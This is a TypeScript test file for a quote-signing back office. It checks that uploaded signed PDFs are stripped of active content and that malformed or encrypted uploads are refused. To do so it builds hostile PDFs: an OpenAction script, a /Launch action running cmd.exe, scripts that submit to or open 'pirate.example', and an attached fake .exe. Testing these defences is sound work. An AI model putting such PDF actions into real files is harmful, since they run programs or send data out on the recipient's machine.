import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString, StandardFonts, type PDFContext } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { texts } from '#domain/texts/common.ts';
import { adminTexts } from '#domain/texts/admin.ts';
import { findActiveContent } from '#server/documents/pdf-check.ts';
import { buildTestApp, createAdmin, createCustomer, ENGINES, type TestApp, useTestApp } from '#server/test/helpers.ts';
import { insertQuote, pdfText, uploadSigned } from './back-office-test-factories.ts';

/**
 * A signed PDF with active content (a script run at opening, a program launched, a file
 * attached, a form, actions on a page or on a link) is stored as a new document made of its
 * pages only: the customer and the administrator download a file in which none of it is left,
 * and which still shows what the pages showed.
 */

const js = (context: PDFContext, code: string) => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });

/** A one-page signed quote, then made hostile by `harm`. */
async function signedPdf(harm: (doc: PDFDocument) => Promise<void> | void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595.28, 841.89]);
  page.drawText('Devis signé', { x: 50, y: 780, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  await harm(doc);
  return Buffer.from(await doc.save());
}

/** A handwritten signature as a viewer draws it: an Ink annotation with its appearance. */
function inkSignature(doc: PDFDocument, action?: PDFDict) {
  const context = doc.context;
  const appearance = context.register(
    context.stream('2 w 10 10 m 80 40 l 150 10 l S', { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 160, 50] }),
  );
  const ink = context.obj({
    Type: 'Annot',
    Subtype: 'Ink',
    Rect: [300, 100, 460, 150],
    InkList: [[310, 110, 380, 140, 450, 110]],
    AP: { N: appearance },
    ...(action ? { A: action } : {}),
  });
  return context.register(ink);
}

const HOSTILE: [string, (doc: PDFDocument) => Promise<void> | void][] = [
  [
    'a script run at opening (/OpenAction → JavaScript)',
    (doc) => doc.catalog.set(PDFName.of('OpenAction'), js(doc.context, "app.alert('pirate')")),
  ],
  [
    'a program launched at opening (/Launch)',
    (doc) =>
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } }),
      ),
  ],
  [
    'a document-level script (/Names /JavaScript)',
    (doc) =>
      doc.catalog.set(
        PDFName.of('Names'),
        doc.context.obj({
          JavaScript: { Names: [PDFString.of('init'), doc.context.register(js(doc.context, 'this.submitForm("https://pirate.example")'))] },
        }),
      ),
  ],
  [
    'an attached file',
    (doc) => doc.attach(Buffer.from('MZ pas un vrai programme'), 'facture.exe', { mimeType: 'application/octet-stream' }),
  ],
  [
    'an action when the page opens (/AA)',
    (doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: js(doc.context, 'app.launchURL("https://pirate.example")') })),
  ],
  [
    'a link running a script',
    (doc) =>
      doc
        .getPage(0)
        .node.set(
          PDFName.of('Annots'),
          doc.context.obj([
            doc.context.register(
              doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: js(doc.context, 'app.alert(1)') }),
            ),
          ]),
        ),
  ],
  [
    'a form whose field runs a script',
    (doc) => {
      const field = doc.getForm().createTextField('mention');
      field.setText('Lu et approuvé');
      field.addToPage(doc.getPage(0), { x: 50, y: 600, width: 220, height: 30 });
      field.acroField.dict.set(PDFName.of('AA'), doc.context.obj({ K: js(doc.context, 'app.alert(2)') }));
    },
  ],
  [
    'a handwritten signature that runs a script when clicked',
    (doc) => doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([inkSignature(doc, js(doc.context, 'app.alert(3)'))])),
  ],
];

describe.each(ENGINES)('a signed PDF with active content, on %s', (engine) => {
  const t = useTestApp(engine);
  let admin: { cookie: string; origin: string };
  let owner: Awaited<ReturnType<typeof createCustomer>>;

  beforeAll(async () => {
    admin = (await createAdmin(t)).headers;
    owner = await createCustomer(t);
  });

  const upload = (id: string, content: Buffer) =>
    uploadSigned(t, admin, id, [{ filename: 'devis-signe.pdf', contentType: 'application/pdf', content }]);

  it.each(HOSTILE)('keeps none of %s in the file the customer and the administrator download', async (_what, harm) => {
    const hostile = await signedPdf(harm);
    expect(findActiveContent(await PDFDocument.load(hostile)), 'the uploaded file is hostile').not.toBeNull();
    const quote = await insertQuote(t, { statut: 'envoyé', uid: owner.id, email: owner.email });

    const response = await upload(quote.id, hostile);
    expect(response.statusCode).toBe(200);

    for (const headers of [owner.headers!, admin]) {
      const download = await t.app.inject({ url: `/api/devis/${quote.id}/devis-signe`, headers });
      expect(download.statusCode).toBe(200);
      const document = await PDFDocument.load(download.rawPayload);
      expect(findActiveContent(document)).toBeNull();
      expect(document.getPageCount()).toBe(1);
      expect(document.catalog.get(PDFName.of('OpenAction'))).toBeUndefined();
      expect(document.catalog.get(PDFName.of('Names'))).toBeUndefined();
      expect(await pdfText(download.rawPayload)).toContain('Devis signé');
    }
  });

  it('keeps what a form showed, and a handwritten signature, as drawings', async () => {
    const hostile = await signedPdf((doc) => {
      const field = doc.getForm().createTextField('mention');
      field.setText('Lu et approuvé');
      field.addToPage(doc.getPage(0), { x: 50, y: 600, width: 220, height: 30 });
      const annotations = doc.getPage(0).node.lookup(PDFName.of('Annots'), PDFArray);
      annotations.push(inkSignature(doc, js(doc.context, 'app.alert(3)')));
    });
    const quote = await insertQuote(t, { statut: 'envoyé', uid: owner.id, email: owner.email });
    expect((await upload(quote.id, hostile)).statusCode).toBe(200);

    const stored = (await t.app.fileStore.get(`devis-signes/${quote.id}.pdf`))!;
    const text = await pdfText(stored);
    expect(text).toContain('Devis signé');
    expect(text).toContain('Lu et approuvé');
    const page = (await PDFDocument.load(stored)).getPage(0);
    const annotations = page.node.lookup(PDFName.of('Annots'), PDFArray);
    expect(annotations.size()).toBe(1);
    const ink = annotations.lookup(0, PDFDict);
    expect(ink.get(PDFName.of('Subtype'))).toBe(PDFName.of('Ink'));
    expect(ink.get(PDFName.of('A'))).toBeUndefined();
    expect(ink.get(PDFName.of('AP'))).toBeDefined();
  });

  it('refuses an encrypted PDF in French, storing nothing', async () => {
    const encrypted = await signedPdf((doc) => {
      doc.context.trailerInfo.Encrypt = doc.context.register(
        doc.context.obj({ Filter: 'Standard', V: 1, R: 2, O: PDFString.of('o'), U: PDFString.of('u'), P: -4 }),
      );
    });
    const quote = await insertQuote(t, { statut: 'envoyé' });
    const response = await upload(quote.id, encrypted);
    expect(response.statusCode).toBe(422);
    expect(response.json()).toEqual({ error: 'validation', message: adminTexts.uploadEncrypted });
    expect(await t.app.fileStore.exists(`devis-signes/${quote.id}.pdf`)).toBe(false);
  });
});

describe.each(ENGINES)('a malformed upload request, on %s', (engine) => {
  let t: TestApp;
  let admin: { cookie: string; origin: string };
  beforeAll(async () => {
    t = await buildTestApp(engine);
    admin = (await createAdmin(t)).headers;
  });
  afterAll(async () => {
    await t.close();
  });

  const pdfPart = (boundary: string) =>
    `--${boundary}\r\nContent-Disposition: form-data; name="fichier"; filename="signe.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`;

  it.each([
    ['without a boundary', 'multipart/form-data', (b: string) => `${pdfPart(b)}\r\n--${b}--\r\n`],
    ['with an empty boundary', 'multipart/form-data; boundary=', (b: string) => `${pdfPart(b)}\r\n--${b}--\r\n`],
    ['cut off in the middle of the file', 'multipart/form-data; boundary=limite', () => pdfPart('limite')],
    ['cut off in the middle of the part headers', 'multipart/form-data; boundary=limite', () => '--limite\r\nContent-Disposition: form-da'],
    ['with a boundary that never appears', 'multipart/form-data; boundary=ailleurs', (b: string) => `${pdfPart(b)}\r\n--${b}--\r\n`],
  ])('answers a body %s with 400 or 415 in French, storing nothing', async (_what, contentType, body) => {
    const quote = await insertQuote(t, { statut: 'envoyé' });
    const response = await t.app.inject({
      method: 'POST',
      url: `/api/admin/devis/${quote.id}/devis-signe`,
      payload: body('limite'),
      headers: { ...admin, 'content-type': contentType },
    });
    expect([400, 415]).toContain(response.statusCode);
    const answer = response.json() as { error: string; message: string };
    expect([adminTexts.uploadMalformed, texts.uploadNoFile]).toContain(answer.message);
    expect(await t.app.fileStore.exists(`devis-signes/${quote.id}.pdf`)).toBe(false);
  });
});
